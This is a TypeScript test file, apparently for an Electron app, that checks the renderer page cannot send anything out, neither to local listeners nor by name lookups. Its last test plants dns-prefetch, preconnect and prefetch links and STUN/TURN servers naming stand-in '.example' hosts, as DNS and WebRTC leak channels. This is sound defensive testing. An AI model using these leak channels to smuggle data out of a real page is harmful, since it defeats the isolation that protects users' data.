/** The renderer reaches no network by any channel (R7): the hostile page against listeners that count. */
import { createSocket } from 'node:dgram';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test as base } from '../fixtures.ts';
import { startEavesdropper } from './Eavesdropper.ts';
import type { Eavesdropper } from './Eavesdropper.ts';
import { tryToLeak } from './tryToLeak.ts';

const test = base.extend<{ readonly eavesdropper: Eavesdropper }>({
  eavesdropper: async ({}, use) => {
    const eavesdropper = await startEavesdropper();
    await use(eavesdropper);
    await eavesdropper.close();
  },
});

/** As many ways as there are in tryToLeak.ts, or a mistake there would look like safety. */
const ways = 47;

test('the listeners hear what is really sent', async ({ eavesdropper }) => {
  const { httpPort, udpPort, heard } = eavesdropper;
  await fetch(`http://127.0.0.1:${httpPort}/control`);
  const socket = createSocket('udp4');
  socket.send('x', udpPort, '127.0.0.1');
  await expect.poll(() => heard).toEqual(expect.arrayContaining(['GET /control', 'udp']));
  socket.close();
});

test('the page itself cannot reach anybody', async ({ app, eavesdropper }) => {
  await app.window.ready();
  const { httpPort, udpPort, heard } = eavesdropper;
  expect(await app.page.evaluate(tryToLeak, { httpPort, udpPort })).toBe(ways);
  await app.page.evaluate(() => new Promise(requestAnimationFrame));
  expect(heard).toEqual([]);
  expect(app.page.url()).toMatch(/^app:\/\/main\//);
});

test('a page without any policy of its own cannot either', async ({ app, eavesdropper }) => {
  await app.window.ready();
  // What an attacker would have who got round the CSP: the layers below it have to hold alone.
  const opened = app.electron.waitForEvent('window');
  await app.electron.evaluate(async ({ BrowserWindow }) => {
    const window = new BrowserWindow({ show: false, webPreferences: { sandbox: true } });
    await window.loadURL('data:text/html,<title>No policy</title><body></body>');
  });
  const page = await opened;
  const { httpPort, udpPort, heard } = eavesdropper;
  expect(await page.evaluate(tryToLeak, { httpPort, udpPort })).toBe(ways);
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 0)));
  expect(heard).toEqual([]);
});

test('no name server is asked about names of the page’s choice', async ({ launch, home }) => {
  const log = join(home.folder, 'net.json');
  const app = await launch({ args: [`--log-net-log=${log}`] });
  await app.window.ready();
  await app.page.evaluate(async () => {
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://a-secret-by-${rel}.example/`;
      document.head.append(link);
    }
    const iceServers = [
      { urls: 'stun:a-secret-by-stun.example' },
      { urls: 'turn:a-secret-by-turn.example?transport=tcp', username: 'x', credential: 'x' },
    ];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1000));
  });
  await app.close();
  const written = await readFile(log, 'utf8');
  expect(written).toContain('HOST_RESOLVER_MANAGER_JOB');
  expect(written).not.toContain('a-secret-by');
});
